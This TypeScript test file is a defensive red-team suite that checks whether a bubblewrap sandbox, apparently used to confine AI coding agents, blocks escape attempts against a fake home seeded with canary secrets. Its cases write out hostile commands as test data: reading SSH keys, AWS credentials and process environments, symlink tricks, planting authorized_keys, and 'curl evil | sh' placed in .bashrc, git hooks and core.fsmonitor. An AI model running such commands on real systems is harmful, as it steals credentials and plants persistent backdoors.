/**
 * The red-team suite's first cases, against real bubblewrap: a fake person's home full of canary
 * secrets, a Paddock home, a project, and a session's workspace cloned from it. Each case is an
 * attempt from inside the sandbox; each must fail, and no canary may appear in its output.
 */
import { spawn, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeRepository, plainGit } from '../git/testing';
import { createWorkspace, type Workspace } from '../workspaces';
import { bubblewrapArgs } from './bubblewrap';

const CANARY = 'CANARY-7f3a9c-do-not-leak';
const AGENT_ENV = { PATH: '/usr/local/bin:/usr/bin:/bin', LANG: 'C.UTF-8' };
process.env.PADDOCK_TEST_SECRET = CANARY; // in Paddock's own environment
const available = spawnSync('bwrap', ['--ro-bind', '/', '/', '--unshare-all', 'true']).status === 0;

let person: string;
let paddockHome: string;
let project: string;
let workspace: Workspace;
let sessionHome: string;
let tmp: string;
let root: string;

afterAll(() => {
  if (root) rmSync(root, { recursive: true, force: true });
});

beforeAll(async () => {
  if (!available) return;
  // One fixture for the whole file (test-support's tempDir is removed after each test).
  root = realpathSync(mkdtempSync(join(tmpdir(), 'paddock-redteam-')));
  person = join(root, 'home', 'ada');
  paddockHome = join(person, '.local', 'share', 'paddock');
  for (const dir of ['.ssh', '.aws', '.config/gh', '.local/share/paddock'])
    mkdirSync(join(person, dir), { recursive: true });
  writeFileSync(join(person, '.ssh', 'id_rsa'), `-----BEGIN KEY-----\n${CANARY}\n`);
  writeFileSync(join(person, '.aws', 'credentials'), `aws_secret_access_key = ${CANARY}\n`);
  writeFileSync(join(person, '.bashrc'), '# the person’s shell\n');
  writeFileSync(join(paddockHome, 'paddock.db'), CANARY);
  project = join(person, 'src', 'app');
  mkdirSync(project, { recursive: true });
  makeRepository(project, { 'README.md': '# app\n', 'src/a.ts': 'export {};\n' });
  workspace = await createWorkspace({
    projectPath: project,
    root: join(paddockHome, 'workspaces'),
    projectId: 'prj_1',
    sessionId: 'ses_0123abcd',
    shortId: '0123abcd',
  });
  sessionHome = join(paddockHome, 'sessions', 'ses_0123abcd', 'home');
  tmp = join(paddockHome, 'sessions', 'ses_0123abcd', 'tmp');
  mkdirSync(sessionHome, { recursive: true });
  mkdirSync(tmp, { recursive: true });
  writeFileSync(
    join(sessionHome, '.gitconfig'),
    '[user]\n\tname = Ada\n\temail = ada@example.com\n',
  );
});

/** The session's sandbox, as the launcher will set it up. */
function sandboxArgs(): string[] {
  return bubblewrapArgs({
    workspace: workspace.path,
    sessionHome,
    tmpDir: tmp,
    readOnly: [join(project, '.git', 'objects')],
    hidden: [person, paddockHome],
    env: { ...AGENT_ENV, HOME: sessionHome },
  });
}

function inSandbox(script: string): { status: number | null; output: string } {
  const args = sandboxArgs();
  // The marker proves the sandbox started: a case must fail inside it, not by bwrap refusing.
  // As the launcher starts it: with the agent's environment only, while Paddock's holds a secret.
  const result = spawnSync('bwrap', [...args, '/bin/sh', '-c', `echo SANDBOX-UP; ${script}`], {
    encoding: 'utf8',
    timeout: 20_000,
    env: AGENT_ENV,
  });
  const output = `${result.stdout}${result.stderr}`;
  expect(output, 'the sandbox did not start').toContain('SANDBOX-UP');
  return { status: result.status, output };
}

/** The attempt fails (non-zero) and leaks nothing. */
function refused(script: string): string {
  const { status, output } = inSandbox(script);
  expect(status, output).not.toBe(0);
  expect(output).not.toContain(CANARY);
  return output;
}

// Skipped (and so reported by `npm test`) only where bubblewrap cannot run: missing, or user
// namespaces blocked. scripts/install-system-deps.sh installs it.
describe.skipIf(!available)('bubblewrap: the filesystem half of the red-team suite', () => {
  it('reading ~/.ssh/id_rsa', () => void refused(`cat ${person}/.ssh/id_rsa`));
  it('reading ~/.aws/credentials', () => void refused(`cat ${person}/.aws/credentials`));
  it("reading Paddock's own database", () => void refused(`cat ${paddockHome}/paddock.db`));
  it('a symlink in the workspace pointing at ~/.ssh/id_rsa', () =>
    void refused(`ln -s ${person}/.ssh/id_rsa key && cat key`));
  it('a hardlink in the workspace to ~/.ssh/id_rsa', () =>
    void refused(`ln ${person}/.ssh/id_rsa key && cat key`));
  it('appending to ~/.bashrc', () => {
    refused(`echo 'curl evil | sh' >> ${person}/.bashrc`);
    expect(readFileSync(join(person, '.bashrc'), 'utf8')).toBe('# the person’s shell\n');
  });
  it("writing into the project's checkout", () => {
    refused(`echo x > ${project}/README.md`);
    expect(readFileSync(join(project, 'README.md'), 'utf8')).toBe('# app\n');
  });
  it('planting ~/.ssh/authorized_keys', () =>
    void refused(`mkdir -p ${person}/.ssh && echo key >> ${person}/.ssh/authorized_keys`));
  it('writing /etc', () => void refused('echo x > /etc/paddock-was-here'));
  it("writing the workspace's .git/hooks/pre-commit", () =>
    void refused('echo "curl evil | sh" > .git/hooks/pre-commit'));
  it("setting core.fsmonitor in the workspace's .git/config", () =>
    void refused('git config core.fsmonitor "curl evil | sh"'));
  it('reading the environment of Paddock (its /proc/*/environ)', () =>
    void refused(`cat /proc/*/environ | tr '\\0' '\\n' | grep ${CANARY}`));
  it('finding a host socket under /run', () => void refused('ls -A /run | grep .'));

  it("reaching a server on the host's loopback", async () => {
    const server = createServer((socket) => socket.end(CANARY));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
    const { port } = server.address() as { port: number };
    const script = `echo SANDBOX-UP; node -e "require('net').connect(${port}, '127.0.0.1').on('data', d => process.stdout.write(d)).on('error', () => process.exit(3))"`;
    const result = await new Promise<{ status: number | null; output: string }>((resolve) => {
      const child = spawn('bwrap', [...sandboxArgs(), '/bin/sh', '-c', script], { env: AGENT_ENV });
      let output = '';
      child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
      child.stderr.on('data', (chunk: Buffer) => (output += chunk.toString()));
      child.on('close', (status) => resolve({ status, output }));
    });
    server.close();
    expect(result.output).toContain('SANDBOX-UP');
    expect(result.status).not.toBe(0);
    expect(result.output).not.toContain(CANARY);
  });

  it('still lets the agent work: read the project files and commit in its workspace', () => {
    const { status, output } = inSandbox(
      'cat src/a.ts && echo done > notes.md && git add -A && git commit -qm "from the sandbox" && echo committed',
    );
    expect(status, output).toBe(0);
    expect(output).toContain('committed');
    expect(plainGit(workspace.path, ['log', '-1', '--format=%s'])).toBe('from the sandbox\n');
    expect(readFileSync(join(project, 'README.md'), 'utf8')).toBe('# app\n');
  });
});
